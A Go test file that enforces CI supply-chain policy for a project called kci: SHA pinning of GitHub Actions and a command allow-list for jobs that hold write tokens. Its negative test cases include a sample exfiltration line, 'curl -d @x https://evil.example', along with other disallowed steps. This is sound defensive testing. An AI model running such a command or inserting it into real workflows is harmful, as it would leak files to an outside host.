package ci

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// Pinning policy: every action and reusable workflow is used at a full
// commit SHA (a tag can be moved to other code), with the version it
// stands for in a comment, so updates stay reviewable:
//
//	uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
var (
	pinnedRef     = regexp.MustCompile(`^[\w.-]+/[\w./-]+@[0-9a-f]{40}$`)
	versionNote   = regexp.MustCompile(`^#\s*v\d+(\.\d+)*\b`)
	kciWorkflowRe = regexp.MustCompile(`^kci-dev/kci/\.github/workflows/(bench|bench-post)\.yml@([0-9a-f]{40})$`)
)

// usesNodes returns every "uses:" value node of a YAML document.
func usesNodes(n *yaml.Node) []*yaml.Node {
	var out []*yaml.Node
	switch n.Kind {
	case yaml.DocumentNode, yaml.SequenceNode:
		for _, c := range n.Content {
			out = append(out, usesNodes(c)...)
		}
	case yaml.MappingNode:
		for i := 0; i+1 < len(n.Content); i += 2 {
			if n.Content[i].Value == "uses" && n.Content[i+1].Kind == yaml.ScalarNode {
				out = append(out, n.Content[i+1])
			}
			out = append(out, usesNodes(n.Content[i+1])...)
		}
	}
	return out
}

// pinProblem says what is wrong with one uses: reference, or "".
func pinProblem(u *yaml.Node) string {
	ref := u.Value
	switch {
	case strings.HasPrefix(ref, "./"):
		return "" // an action of the same checkout, pinned with it
	case strings.HasPrefix(ref, "docker://"):
		if !strings.Contains(ref, "@sha256:") {
			return "a docker action not pinned by digest"
		}
		return ""
	case !pinnedRef.MatchString(ref):
		return "not pinned to a full commit SHA"
	case strings.HasPrefix(ref, "kci-dev/kci/"):
		if u.LineComment == "" {
			return "no comment saying which kci it is"
		}
	case !versionNote.MatchString(u.LineComment):
		return fmt.Sprintf("comment %q does not say the version (# vX.Y.Z)", u.LineComment)
	}
	return ""
}

func allActionFiles(t *testing.T) []workflowFile {
	files := append(workflowFiles(t), docWorkflows(t)...)
	p := filepath.Join(repoRoot, ".github", "actions", "setup-kci", "action.yml")
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return append(files, workflowFile{p, b})
}

func TestActionsPinnedBySHA(t *testing.T) {
	n := 0
	for _, f := range allActionFiles(t) {
		var doc yaml.Node
		if err := yaml.Unmarshal(f.content, &doc); err != nil {
			t.Fatalf("%s: %v", f.name, err)
		}
		for _, u := range usesNodes(&doc) {
			n++
			if p := pinProblem(u); p != "" {
				t.Errorf("%s:%d: uses: %s: %s", f.name, u.Line, u.Value, p)
			}
			// actions/download-artifact before 4.1.3 follows symlinks
			// out of the download path (GHSA-cxww-7g56-2vh6).
			if strings.HasPrefix(u.Value, "actions/download-artifact@") && !regexp.MustCompile(`^# v(4\.1\.([3-9]|\d\d)|4\.([2-9]|\d\d)|[5-9])`).MatchString(u.LineComment) {
				t.Errorf("%s:%d: download-artifact %s, want ≥ v4.1.3", f.name, u.Line, u.LineComment)
			}
		}
	}
	if n < 10 {
		t.Errorf("only %d uses: found: the walk is broken", n)
	}
}

// The documented callers pin kci's reusable workflows, and pass the same
// commit as kci-ref, so the kci they build is the kci they run.
func TestDocsPinKCIToOneCommit(t *testing.T) {
	seen := 0
	for _, f := range docWorkflows(t) {
		w := parseWorkflow(t, f)
		for name, j := range w.Jobs {
			m := kciWorkflowRe.FindStringSubmatch(j.Uses)
			if strings.Contains(j.Uses, "kci-dev/kci/") && m == nil {
				t.Errorf("%s job %s: uses %q, want kci-dev/kci/.github/workflows/...@<full SHA>", f.name, name, j.Uses)
				continue
			}
			if m == nil {
				continue
			}
			seen++
			if ref, _ := j.With["kci-ref"].(string); ref != m[2] {
				t.Errorf("%s job %s: kci-ref %q, want %s, the commit the workflow is pinned to", f.name, name, ref, m[2])
			}
		}
	}
	if seen != 2 {
		t.Errorf("%d documented kci workflow callers, want 2 (bench.yml and bench-post.yml)", seen)
	}
}

// posterAllowed is everything a job holding a write token may do. Every
// step is on the list, or the test fails: a new step is reviewed here.
func posterStepProblems(s step) []string {
	var out []string
	switch {
	case s.Uses != "" && s.Run != "":
		out = append(out, "both uses and run")
	case strings.HasPrefix(s.Uses, "actions/checkout@"):
		// Only kci's own source, at the pinned kci-ref.
		if s.With["repository"] != "${{ inputs.kci-repository }}" || s.With["ref"] != "${{ inputs.kci-ref }}" {
			out = append(out, fmt.Sprintf("checkout of %v@%v, want kci's source at inputs.kci-ref", s.With["repository"], s.With["ref"]))
		}
	case strings.HasPrefix(s.Uses, "actions/download-artifact@"):
		if id, _ := s.With["run-id"].(string); !strings.Contains(id, "github.event.workflow_run.id") {
			out = append(out, "download-artifact from another run than the triggering one")
		}
	case s.Uses == "./.kci/.github/actions/setup-kci":
		if s.With["host-deps"] != "false" {
			out = append(out, "setup-kci installs host packages (scripts from the checkout) in the poster")
		}
	case s.Uses != "":
		out = append(out, "action "+s.Uses+" is not on the posting job's allow-list")
	default:
		out = append(out, scriptProblems(s.Run)...)
	}
	return out
}

// allowedCommands are the shell words a posting script may start a
// command with: control flow, output, variables, and kci post.
var allowedCommands = map[string]bool{"set": true, "echo": true, "exit": true, "[": true, "[[": true, "test": true, "kci": true, "true": true}

// splitCommands splits a line of shell at ; && || | outside quotes.
func splitCommands(line string) []string {
	var (
		out   []string
		cur   strings.Builder
		quote rune
	)
	rs := []rune(line)
	for i := 0; i < len(rs); i++ {
		r := rs[i]
		switch {
		case quote != 0:
			if r == quote {
				quote = 0
			} else if r == '\\' && quote == '"' && i+1 < len(rs) {
				cur.WriteRune(r)
				i++
				r = rs[i]
			}
		case r == '\'' || r == '"':
			quote = r
		case r == ';' || r == '|' || (r == '&' && i+1 < len(rs) && rs[i+1] == '&'):
			out = append(out, cur.String())
			cur.Reset()
			if i+1 < len(rs) && (rs[i+1] == '|' || rs[i+1] == '&') {
				i++
			}
			continue
		}
		cur.WriteRune(r)
	}
	return append(out, cur.String())
}

// scriptProblems lists the commands of a run: script that are not on the
// allow-list. Every line is split into simple commands; keywords and
// assignments are skipped; what is left must be allowed, and kci only as
// "kci post".
func scriptProblems(script string) []string {
	var out []string
	// A substitution runs a command the word splitting below cannot see.
	for _, sub := range []string{"$(", "`", "<(", ">("} {
		if strings.Contains(script, sub) {
			out = append(out, fmt.Sprintf("%q: command or process substitution in the posting job", sub))
		}
	}
	for _, line := range strings.Split(script, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		for _, cmd := range splitCommands(line) {
			words := strings.Fields(cmd)
			for len(words) > 0 && (isShellKeyword(words[0]) || isAssignment(words[0])) {
				words = words[1:]
			}
			if len(words) == 0 || strings.HasPrefix(words[0], "]") {
				continue
			}
			switch {
			case !allowedCommands[words[0]]:
				out = append(out, fmt.Sprintf("command %q is not on the posting job's allow-list", words[0]))
			case words[0] == "kci" && (len(words) < 2 || words[1] != "post"):
				out = append(out, fmt.Sprintf("%q: the posting job runs kci post only", strings.Join(words, " ")))
			}
		}
	}
	return out
}

func isShellKeyword(w string) bool {
	switch w {
	case "if", "then", "else", "elif", "fi", "!", "do", "done", "{", "}":
		return true
	}
	return false
}

var assignment = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*\+?=`)

func isAssignment(w string) bool { return assignment.MatchString(w) }

func TestPosterStepsAreAllowListed(t *testing.T) {
	saw := 0
	for _, f := range append(workflowFiles(t), docWorkflows(t)...) {
		w := parseWorkflow(t, f)
		for name, j := range w.Jobs {
			if scopes, _ := effectiveWrites(w, j); len(scopes) == 0 {
				continue
			}
			for i, s := range j.Steps {
				saw++
				for _, p := range posterStepProblems(s) {
					t.Errorf("%s job %s step %d (%s): %s", f.name, name, i+1, s.Name, p)
				}
			}
		}
	}
	if saw == 0 {
		t.Errorf("no posting job steps checked")
	}
}

// The allow-list must refuse what the old regex checks let through.
func TestPosterAllowListCatches(t *testing.T) {
	bad := []step{
		{Run: "go run ./tools/render \"$RUN_DIR\""},
		{Run: "set -e\nkci test patches/x.patch"},
		{Run: "echo ok; curl -d @x https://evil.example"},
		{Run: "if true; then bash ./scripts/post.sh; fi"},
		{Run: "echo \"a;b\" && go run ./tools/render"},
		{Run: "echo \"$(go run ./tools/render)\""},
		{Uses: "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", With: map[string]any{"ref": "${{ github.event.workflow_run.head_sha }}"}},
		{Uses: "someone/post-comment@0123456789012345678901234567890123456789"},
		{Uses: "actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16", With: map[string]any{"run-id": "${{ inputs.run }}"}},
		{Uses: "./.kci/.github/actions/setup-kci"},
	}
	for _, s := range bad {
		if len(posterStepProblems(s)) == 0 {
			t.Errorf("allow-list accepted %+v", s)
		}
	}
	good := step{Run: "set -euo pipefail\nflags=()\nif [ \"$DRY_RUN\" = true ]; then flags+=(--dry-run); fi\nkci post \"${flags[@]}\" \"$RUN_DIR\""}
	if p := posterStepProblems(good); len(p) != 0 {
		t.Errorf("allow-list refused the posting script: %v", p)
	}
	for _, ref := range []string{"actions/checkout@v4", "actions/checkout@main", "actions/checkout@11bd719", "kci-dev/kci/.github/workflows/bench-post.yml@main"} {
		if pinProblem(&yaml.Node{Value: ref, LineComment: "# v4"}) == "" {
			t.Errorf("unpinned %s accepted", ref)
		}
	}
	if p := pinProblem(&yaml.Node{Value: "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"}); p == "" {
		t.Errorf("a pin without its version comment accepted")
	}
}
